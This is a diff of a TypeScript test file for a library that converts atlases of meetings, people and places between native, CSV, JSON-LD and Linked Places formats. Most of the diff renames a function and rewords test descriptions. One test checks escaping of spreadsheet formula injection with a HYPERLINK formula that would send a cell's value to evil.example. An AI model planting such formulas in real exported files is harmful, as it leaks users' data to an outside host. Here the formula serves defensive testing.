@@ -5,9 +5,10 @@ import type { AtlasData } from '../../../src/core/model/model.js';
 import { readAtlas } from '../../../src/core/formats/read.js';
 import { writeJsonLd } from '../../../src/core/formats/json-ld/write.js';
 import { writeLinkedPlaces } from '../../../src/core/formats/linked-places/write.js';
-import { writeNative } from '../../../src/core/formats/native/write.js';
+import { nativeText } from '../../../src/core/formats/native/write.js';
 import { writeTable } from '../../../src/core/formats/table/write.js';
 import { writeTables } from '../../../src/core/formats/linked-tables/write.js';
+import type { Written } from '../../../src/core/formats/written.js';
 import { anyAtlasData } from '../samples/any-atlas.js';
 import { dataOf, meetingOf, personOf, placeOf } from '../samples/build.js';
 import { readNative, readTable, readTables } from './reading.js';
@@ -16,9 +17,12 @@ const firstAtlas = readNative(
   readFileSync(new URL('../../../geo/us-dprk-2018.geojson', import.meta.url), 'utf8'),
 ).value;
 
+/** The text of a format that is one file. */
+const textOf = ({ files }: Written): string => files.map(({ text }) => text).join('');
+
 const lost = (losses: readonly { readonly path: string }[]): readonly string[] => losses.map(({ path }) => path);
 
-/** What a flat table holds without loss: texts in one language, names for ids. */
+/** An atlas that a flat table holds without loss: its texts have one language, and its ids are made from names. */
 const simple: AtlasData = dataOf({
   places: [
     placeOf('panmunjeom', 'Panmunjeom', {
@@ -57,7 +61,7 @@ const simple: AtlasData = dataOf({
       note: 'In two rounds;\nno statement.',
       certainty: 'confirmed',
       sources: ['report', 'letter'],
-      ...{ places: ['panmunjeom'] },
+      places: ['panmunjeom'],
     }),
     meetingOf('sydney-1', { title: 'Sydney', when: '-0044-03-15', places: ['sydney'], status: 'cancelled' }),
     meetingOf('call', { title: 'Call', mode: 'phone', when: '2018-05-29/2018-06-01', places: ['somewhere'] }),
@@ -70,30 +74,30 @@ const withPart: AtlasData = {
   ),
 };
 
-describe('writeNative', () => {
-  it('is read again as the same atlas, whatever it holds', () => {
+describe('nativeText', () => {
+  it('gives any atlas back when it is read', () => {
     fc.assert(
       fc.property(anyAtlasData, (data) => {
-        const { value, issues } = readNative(writeNative(data));
+        const { value, issues } = readNative(nativeText(data));
         expect(issues).toEqual([]);
         expect(value).toEqual(data);
       }),
     );
   });
 
-  it('gives the same text for the same atlas, however often it went around', () => {
+  it('gives the same text after any number of round trips', () => {
     fc.assert(
       fc.property(anyAtlasData, (data) => {
-        const text = writeNative(data);
-        expect(writeNative(readNative(text).value)).toBe(text);
+        const text = nativeText(data);
+        expect(nativeText(readNative(text).value)).toBe(text);
       }),
     );
   });
 
-  it('keeps the first atlas, and writes one thing a line', () => {
-    const text = writeNative(firstAtlas);
+  it('keeps the first atlas and writes one thing on each line', () => {
+    const text = nativeText(firstAtlas);
     expect(readNative(text)).toEqual({ value: firstAtlas, issues: [] });
-    const changed = writeNative({
+    const changed = nativeText({
       ...firstAtlas,
       meetings: firstAtlas.meetings.map((meeting) => ({
         ...meeting,
@@ -108,27 +112,30 @@ describe('writeNative', () => {
 });
 
 describe('writeTable', () => {
-  it('holds what a table can hold, buildings and several kinds of sources too', () => {
-    const { text, losses } = writeTable(withPart);
+  it('keeps buildings, and sources with and without an address', () => {
+    const written = writeTable(withPart);
+    const { losses } = written;
+    const text = textOf(written);
     expect(losses).toEqual([]);
     const { value, issues } = readTable(text);
     expect(issues.map(({ code }) => code)).toEqual(['coordinates-missing']);
     expect(value).toEqual(withPart);
   });
 
-  it('has the columns that people know, and no empty ones', () => {
-    const [headings] = writeTable(dataOf({ meetings: [meetingOf('a', { when: '2018' })] })).text.split('\r\n');
+  it('has the columns that users fill in, and no other empty ones', () => {
+    const written = writeTable(dataOf({ meetings: [meetingOf('a', { when: '2018' })] }));
+    const [headings] = textOf(written).split('\r\n');
     expect(headings).toBe('id,meeting,date,place,lat,lon,people');
   });
 
-  it('lets no cell become a formula, and reads them again as they were', () => {
+  it('protects cells from being taken for formulas, and the reader removes the protection', () => {
     const formula = '=HYPERLINK("https://evil.example?"&A1,"x")';
     const data = dataOf({
       places: [placeOf('at-place', '@place', { coordinates: [-70.5, -33.5] })],
       people: [personOf('1-person', '+1 Person')],
       meetings: [meetingOf('m', { title: formula, people: ['1-person'], places: ['at-place'], note: '-2+3' })],
     });
-    const { text } = writeTable(data);
+    const text = textOf(writeTable(data));
     const cells = text.split('\r\n')[1] ?? '';
     expect(cells).toContain(`"'=HYPERLINK(""`);
     expect(cells).toContain(",'@place,-33.5,-70.5,'+1 Person,'-2+3");
@@ -138,7 +145,7 @@ describe('writeTable', () => {
     expect(people[0]?.name).toBe('+1 Person');
   });
 
-  it('says what of the first atlas it could not hold', () => {
+  it('lists what it cannot hold from the first atlas', () => {
     const { losses } = writeTable(firstAtlas);
     expect(new Set(losses.map(({ code }) => code))).toEqual(new Set(['not-held']));
     expect(lost(losses)).toEqual(
@@ -151,10 +158,12 @@ describe('writeTable', () => {
     expect(losses.find(({ path }) => path === 'meetings.claims')?.found).toBe(String(claims));
   });
 
-  it('never loses a meeting, and says every change of title or date', () => {
+  it('never loses a meeting, and lists every change of a title or date', () => {
     fc.assert(
       fc.property(anyAtlasData, (data) => {
-        const { text, losses } = writeTable(data);
+        const written = writeTable(data);
+        const { losses } = written;
+        const text = textOf(written);
         const back = readTable(text).value;
         expect(back.meetings.map(({ id }) => id)).toEqual(data.meetings.map(({ id }) => id));
         for (const [index, meeting] of data.meetings.entries()) {
@@ -170,14 +179,14 @@ describe('writeTable', () => {
     );
   });
 
-  it('chooses the language it is told', () => {
-    expect(writeTable(firstAtlas, { lang: 'ko' }).text).toContain('판문점');
-    expect(writeTable(firstAtlas).text).toContain('Panmunjeom');
+  it('writes texts in the given language', () => {
+    expect(textOf(writeTable(firstAtlas, { lang: 'ko' }))).toContain('판문점');
+    expect(textOf(writeTable(firstAtlas))).toContain('Panmunjeom');
   });
 });
 
 describe('writeTables', () => {
-  it('goes from native to tables and back, and says what did not come along', () => {
+  it('lists what is lost on the way to tables and back', () => {
     const { files, losses } = writeTables(simple);
     expect(files.map(({ name }) => name)).toEqual([
       'people.csv',
@@ -185,14 +194,18 @@ describe('writeTables', () => {
       'people-at-events.csv',
       'locations.csv',
     ]);
-    // A source without an address beside one with: whose address it is, one row cannot say.
+    // One row cannot say which of two sources its one address belongs to.
     expect(lost(losses)).toEqual([
-      ...['sources.id', 'sources.title', 'places.parts'],
-      ...['meetings.number', 'meetings.duration', 'meetings.certainty'],
+      'sources.id',
+      'sources.title',
+      'places.parts',
+      'meetings.number',
+      'meetings.duration',
+      'meetings.certainty',
     ]);
     const { value, issues } = readTables(files);
     expect(issues.map(({ code }) => code)).toEqual(['coordinates-missing']);
-    const again = writeNative(value);
+    const again = nativeText(value);
     expect(readNative(again).value).toEqual(value);
     expect(value.people).toEqual(simple.people);
     expect(value.meetings.map(({ id, when }) => [id, when?.edtf])).toEqual(
@@ -200,7 +213,7 @@ describe('writeTables', () => {
     );
   });
 
-  it('keeps people who met nobody and places where nobody met', () => {
+  it('keeps people and places without meetings', () => {
     const data = dataOf({
       places: [placeOf('oslo', 'Oslo', { coordinates: [10.75, 59.91] })],
       people: [personOf('jan-egeland', 'Jan Egeland')],
@@ -213,8 +226,10 @@ describe('writeTables', () => {
 });
 
 describe('writeJsonLd', () => {
-  it('is schema.org that the reader knows, and says what it could not hold', async () => {
-    const { text, losses } = writeJsonLd(withPart);
+  it('writes schema.org events that the reader knows, and lists what they cannot hold', async () => {
+    const written = writeJsonLd(withPart);
+    const { losses } = written;
+    const text = textOf(written);
     const { value, issues } = await readAtlas(text);
     expect(issues.filter(({ code }) => code !== 'coordinates-missing')).toEqual([]);
     expect(value.meetings.map(({ id, title }) => [id, title])).toEqual(
@@ -230,8 +245,10 @@ describe('writeJsonLd', () => {
 });
 
 describe('writeLinkedPlaces', () => {
-  it('holds the places, with when they are attested, and says that meetings and people are not there', async () => {
-    const { text, losses } = writeLinkedPlaces(firstAtlas);
+  it('writes places with their first and last date, and lists meetings and people as lost', async () => {
+    const written = writeLinkedPlaces(firstAtlas);
+    const { losses } = written;
+    const text = textOf(written);
     const { value } = await readAtlas(text);
     expect(value.places.map(({ id, coordinates }) => [id, coordinates])).toEqual(
       firstAtlas.places.map(({ id, coordinates }) => [id, coordinates]),
@@ -244,15 +261,15 @@ describe('writeLinkedPlaces', () => {
 });
 
 describe('all writers', () => {
-  it('write whatever an atlas holds, and the readers never throw at it', async () => {
+  it('write any atlas, and the readers read it', async () => {
     await fc.assert(
       fc.asyncProperty(anyAtlasData, async (data) => {
         const { files } = writeTables(data);
         expect(readTables(files).value.meetings).toHaveLength(data.meetings.length);
-        const events = await readAtlas(writeJsonLd(data).text);
+        const events = await readAtlas(textOf(writeJsonLd(data)));
         expect(events.value.meetings.length).toBe(data.meetings.length);
         const gazetteer = writeLinkedPlaces(data);
-        const places = (await readAtlas(gazetteer.text)).value.places.length;
+        const places = (await readAtlas(textOf(gazetteer))).value.places.length;
         if (places !== data.places.length) expect(lost(gazetteer.losses)).toContain('places');
       }),
       { numRuns: 50 },
